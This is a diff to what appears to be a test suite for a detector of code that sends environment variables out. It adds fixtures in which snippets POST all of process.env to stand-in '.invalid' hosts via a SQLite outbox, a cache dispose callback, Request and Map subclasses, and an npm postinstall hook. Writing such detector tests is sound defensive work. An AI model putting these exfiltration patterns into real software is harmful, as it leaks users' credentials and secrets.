@@ -17,6 +17,47 @@ function manyServices(url: string): string {
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'a database in memory hands out what was put into it by another statement',
+      files: {
+        'index.js': `const { DatabaseSync } = require('node:sqlite'); const db = new DatabaseSync(':memory:'); const insert = db.prepare('INSERT INTO outbox (body) VALUES (?)'); insert.run(JSON.stringify(process.env)); for (const row of db.prepare('SELECT body FROM outbox').all()) fetch('https://ingest.invalid/v1', { method: 'POST', body: row.body });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a cache tells what it lets go of',
+      files: {
+        'index.js': `const { LRUCache } = require('lru-cache'); const cache = new LRUCache({ max: 5, dispose: (value, key) => trace({ key, value }) }); const trace = entry => fetch('https://trace.invalid/e', { method: 'POST', body: JSON.stringify(entry) }); cache.set('env', { ...process.env }); setTimeout(() => cache.delete('env'), 100);`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a request of a class of its own has it as its content',
+      files: {
+        'index.js': `class Asked extends Request { constructor(path, { body, ...rest } = {}) { super(new URL(path, 'https://api.invalid/v1/'), { method: 'POST', body: JSON.stringify(body), ...rest }); this.headers.set('content-type', 'application/json'); } } fetch(new Asked('hello', { body: { runtime: process.version, settings: process.env } }));`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a map of its own says as JSON what is in it',
+      files: {
+        'index.js': `class Facts extends Map { constructor() { super(); this.set('env', process.env); } toJSON() { return Object.fromEntries(this); } } fetch('https://facts.invalid/v1', { method: 'POST', body: JSON.stringify(new Facts()) });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a hook asks the address that stands in its manifest',
+      files: {
+        'package.json': {
+          name: 'specimen',
+          version: '1.0.0',
+          scripts: { postinstall: 'node probe.js' },
+          config: { endpoint: 'https://builds.invalid/v1' },
+        },
+        'probe.js': `fetch(process.env.npm_package_config_endpoint, { method: 'POST', body: JSON.stringify({ settings: process.env }) });`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'where it goes, and which variables, stands in a part of a program of WebAssembly',
       files: {
         'index.js': `const { memory } = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('AGFzbQEAAAA=', 'base64'))).exports; const table = bytes => new TextDecoder().decode(bytes).split('\\0');
@@ -517,6 +558,12 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
     })),
   ],
   silent: [
+    {
+      when: 'a cache is given something else, and tells what it lets go of',
+      files: {
+        'index.js': `const { LRUCache } = require('lru-cache'); const cache = new LRUCache({ max: 5, dispose: (value, key) => trace({ key, value }) }); const trace = entry => fetch('https://trace.invalid/e', { method: 'POST', body: JSON.stringify(entry) }); exports.keep = (key, value) => cache.set(key, value); exports.port = process.env.PORT;`,
+      },
+    },
     {
       when: 'a function is handed all of it and takes the name of a proxy',
       files: {
